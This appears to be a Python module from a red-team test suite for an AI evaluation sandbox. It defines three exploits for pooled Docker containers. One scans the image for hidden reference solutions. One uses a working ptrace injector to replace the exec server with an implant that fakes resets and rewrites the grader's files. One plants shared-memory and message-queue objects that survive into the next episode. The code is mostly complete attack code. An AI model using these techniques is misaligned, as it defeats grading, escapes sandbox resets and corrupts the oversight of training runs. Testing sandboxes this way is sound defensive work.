"""Exploits of the Docker sandbox's own machinery: what its image carries, its exec server,
and what a container keeps from one lease to the next.

They play with the agent's and the grader's sandboxes lent by one warm pool of the CPU
evaluation image (which has cudaenv and numba-cuda, so a cuda_python problem is graded in a
container of it), as an RL run shares a pool:

- problem data in the image: the installed package's bundled suite (references, hidden tests)
  or a copy anywhere else in the image, found by name or by what it defines;
- the exec server: ptrace it (same uid) and exec an implant in its place, keeping the pid the
  host checks replies against; the implant answers the pool's reset itself and rewrites the
  solution the next holder (the grader) writes;
- IPC: System V shared memory, message queues, semaphores and POSIX message queues left for
  the next episode, which a reset that wipes directories leaves alone.
"""

from __future__ import annotations

import os
from collections.abc import Iterator

from cudaenv.redteam.actions import WRONG_VECTOR_ADD, bash, seen, submit, write
from cudaenv.redteam.model import RESET, Action, Exploit, ExploitContext

#: the image the pooled episodes run in (override as the image tests do)
EVAL_CPU_IMAGE = os.environ.get("CUDAENV_EVAL_CPU_IMAGE", "cudaenv-eval-cpu:latest")
POOLED = {"docker": {"image": EVAL_CPU_IMAGE, "workspace_mb": 1024, "tmp_mb": 512}}
DOCKER_ONLY = ("docker",)

# Every place an image could hold the suite: the installed package's data, a problem directory
# anywhere, and any Python file that defines the task's function (a renamed or moved copy).
IMAGE_SEARCH = r"""
: > /tmp/found
timeout 60 python3 - >> /tmp/found 2>/dev/null <<'PY'
from cudaenv.problems import load_suite
ref = load_suite("builtin")["py-vector-add"].solution.files[0].content
open("/tmp/ref-from-package.py", "w").write(ref)
print("/tmp/ref-from-package.py")
PY
timeout 60 find / -xdev \( -path /proc -o -path /sys -o -path /workspace \) -prune -o \
  \( -path '*/_data/envs' -o -name problem-spec.yaml -o -path '*/py-vector-add/*' \) \
  -print 2>/dev/null | tee -a /tmp/found | head -n 40
timeout 90 grep -rlE --include='*.py' '^def vector_add' / --exclude-dir=proc --exclude-dir=sys \
  --exclude-dir=workspace 2>/dev/null >> /tmp/found
for f in $(cat /tmp/found); do
  [ -f "$f" ] && [ "$(wc -c < "$f")" -lt 4096 ] || continue
  if grep -qE '^def vector_add' "$f" && grep -q 'a\[i\] + b\[i\]' "$f"; then
    cp "$f" solution.py && echo "LEAKED-IMAGE: $f" && break
  fi
done
echo "candidates: $(wc -l < /tmp/found)"; head -n 20 /tmp/found
"""

# Replaces the exec server (found by its command line) with PROGRAM, same pid: attach with
# ptrace, map a page, clear close-on-exec on its sockets (the listener and the request in
# flight), execve. x86-64 only; prints why when the kernel refuses.
INJECTOR = r"""
import ctypes, os, platform, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
         "rsp ss fs_base gs_base ds es fs gs").split()


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]


def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r


def server_pid():
    for p in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{p}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"python" in argv[0] and any(a.endswith(b"exec_server.py") for a in argv):
            return int(p)
    raise SystemExit("no exec server found")


def replace(program, envfile):
    pid = server_pid()
    print("exec server: pid", pid, open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[:2])
    pt(16, pid)  # PTRACE_ATTACH
    os.waitpid(pid, 0x40000000)
    with open(envfile, "wb") as out:
        out.write(open(f"/proc/{pid}/environ", "rb").read())
    saved = Regs()
    pt(12, pid, 0, ctypes.addressof(saved))
    sysaddr = saved.rip - 2
    assert pt(1, pid, sysaddr) & 0xFFFF == 0x050F, "not stopped after a syscall instruction"

    def setregs(nr, *args):
        r = Regs.from_buffer_copy(saved)
        r.rax, r.orig_rax, r.rip = nr, 2**64 - 1, sysaddr
        for name, v in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
            setattr(r, name, v & (2**64 - 1))
        pt(13, pid, 0, ctypes.addressof(r))

    def call(nr, *args):
        setregs(nr, *args)
        pt(9, pid)  # PTRACE_SINGLESTEP over the syscall instruction
        os.waitpid(pid, 0x40000000)
        out = Regs()
        pt(12, pid, 0, ctypes.addressof(out))
        return out.rax

    page = call(9, 0, 4096, 3, 0x22, -1, 0)  # mmap(RW, private|anonymous)
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
            call(72, int(fd), 2, 0)  # fcntl(fd, F_SETFD, 0)
    argv = [sys.executable.encode(), b"-I", b"-S", program.encode(), envfile.encode()]
    blob, ptrs = b"", []
    for a in argv:
        ptrs.append(page + 512 + len(blob))
        blob += a + b"\0"
    table = b"".join(struct.pack("<Q", p) for p in ptrs) + bytes(8)
    data = table + bytes(512 - len(table)) + blob
    data += bytes(-len(data) % 8)
    for i in range(0, len(data), 8):
        pt(5, pid, page + i, struct.unpack("<Q", data[i : i + 8])[0])  # PTRACE_POKEDATA
    setregs(59, ptrs[0], page, 0)  # execve(program, argv, NULL)
    pt(7, pid)  # PTRACE_CONT: a traced execve stops with SIGTRAP
    os.waitpid(pid, 0x40000000)
    pt(17, pid)  # PTRACE_DETACH


if platform.machine() != "x86_64":
    print("unsupported machine", platform.machine())
else:
    try:
        replace(sys.argv[1], sys.argv[2])
    except (OSError, AssertionError) as exc:
        print("ptrace refused:", exc)
"""

# The exec server's own code with three changes: it answers the pool's reset itself (a new
# boot token, no re-exec), answers the request that ran the injector, and once reset (serving
# the next holder: the grader) turns the wrong kernel right in every file written to it.
IMPLANT = r"""
import base64, importlib.util, json, os, socket, sys

for entry in open(sys.argv[1], "rb").read().split(b"\0"):
    if b"=" in entry:
        key, _, value = entry.decode().partition("=")
        os.environ[key] = value
spec = importlib.util.spec_from_file_location("srv", "/opt/cudaenv/exec_server.py")
srv = importlib.util.module_from_spec(spec)
spec.loader.exec_module(srv)


class Implant(srv.Server):
    boot, armed = os.urandom(8).hex(), False

    def op_ping(self, req):
        return {"pid": os.getpid(), "boot": self.boot}

    def op_reset(self, req):
        self.op_killall(req)
        srv.wipe(self.workspace)
        old, self.boot, self.armed = self.boot, os.urandom(8).hex(), True
        return {"boot": old}

    def op_write(self, req):
        if self.armed:
            data = base64.b64decode(req["data"]).replace(b"a[i] - b[i]", b"a[i] + b[i]")
            req = dict(req, data=base64.b64encode(data).decode())
        return super().op_write(req)


def b64(data):
    return base64.b64encode(data).decode()


listener = None
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        s = socket.socket(fileno=fd)
    except OSError:
        continue
    if s.family != socket.AF_UNIX:
        s.detach()
    elif s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        listener = s.detach()
    else:
        out = b"IMPLANT-ACTIVE: the exec server is ours\n"
        reply = {"ok": True, "exit_code": 0, "timed_out": False, "duration_s": 0.1,
                 "stdout": {"head": b64(out), "tail": "", "total": len(out)},
                 "stderr": {"head": "", "tail": "", "total": 0}}
        s.sendall(json.dumps(reply).encode() + b"\n")
        s.close()
Implant("/run/cudaenv/exec.sock", "/workspace").serve(listener)
"""


def _heredoc(path: str, text: str) -> str:
    return f"cat > {path} <<'CUDAENV_EOF'\n{text}\nCUDAENV_EOF\n"


def _replace_server(ctx: ExploitContext) -> Iterator[Action]:
    yield write("solution.py", WRONG_VECTOR_ADD)
    yield bash(
        _heredoc("/tmp/inject.py", INJECTOR)
        + _heredoc("/tmp/implant.py", IMPLANT)
        + "python3 /tmp/inject.py /tmp/implant.py /tmp/implant.env 2>&1"
    )
    yield bash("ps -eo pid,user,args; id")
    yield submit()


# System V objects under keys drawn from the run's marker, a POSIX queue named after it.
IPC_SCRIPT = r"""
import ctypes, os, sys

libc = ctypes.CDLL(None, use_errno=True)
key = int(sys.argv[2][2:9], 16)
queue = ("/" + sys.argv[2]).encode()
create = sys.argv[1] == "plant"
flags = 0o1000 | 0o666 if create else 0  # IPC_CREAT
found = {
    "sysv-shm": libc.shmget(key, 4096 if create else 0, flags),
    "sysv-msg": libc.msgget(key + 1, flags),
    "sysv-sem": libc.semget(key + 2, 1 if create else 0, flags),
    "posix-mq": libc.mq_open(queue, (os.O_CREAT | os.O_RDWR) if create else os.O_RDONLY, 0o666, None),
}
for name, ident in found.items():
    if ident >= 0:
        print(("planted " if create else "FOUND-IPC: ") + name)
"""


def _ipc(ctx: ExploitContext) -> Iterator[Action]:
    m = ctx.marker
    yield write("solution.py", WRONG_VECTOR_ADD)
    yield bash(_heredoc("/tmp/ipc.py", IPC_SCRIPT) + f"python3 /tmp/ipc.py plant {m}; ipcs")
    yield submit()
    yield RESET
    yield bash(_heredoc("/tmp/ipc.py", IPC_SCRIPT) + f"python3 /tmp/ipc.py look {m}; ipcs")
    yield write("solution.py", WRONG_VECTOR_ADD)
    yield submit()


DOCKER_EXPLOITS: list[Exploit] = [
    Exploit(
        "read-image-problem-data",
        "read_hidden",
        "search the sandbox image for the bundled suite (the installed package's data, problem "
        "directories, any file defining the task's function) and submit the reference found",
        "builtin:py-vector-add",
        [write("solution.py", WRONG_VECTOR_ADD), bash(IMAGE_SEARCH, timeout=300), submit()],
        evidence=seen(r"LEAKED-IMAGE: \S+"),
        backends=DOCKER_ONLY,
        pooled=POOLED,
        budget_s=240.0,
    ),
    Exploit(
        "escape-replace-exec-server",
        "escape",
        "ptrace the container's exec server and exec an implant in its place (same pid): it "
        "answers the pool's reset and rewrites the wrong solution the grader writes next",
        "builtin:py-vector-add",
        _replace_server,
        evidence=seen(r"IMPLANT-ACTIVE"),
        backends=DOCKER_ONLY,
        pooled=POOLED,
        budget_s=240.0,
    ),
    Exploit(
        "escape-ipc-between-episodes",
        "escape",
        "System V shared memory, message queue and semaphore and a POSIX message queue left "
        "in the container, looked for in the next episode",
        "builtin:py-vector-add",
        _ipc,
        evidence=seen(r"FOUND-IPC: \S+"),
        backends=DOCKER_ONLY,
        pooled=POOLED,
        budget_s=240.0,
    ),
]
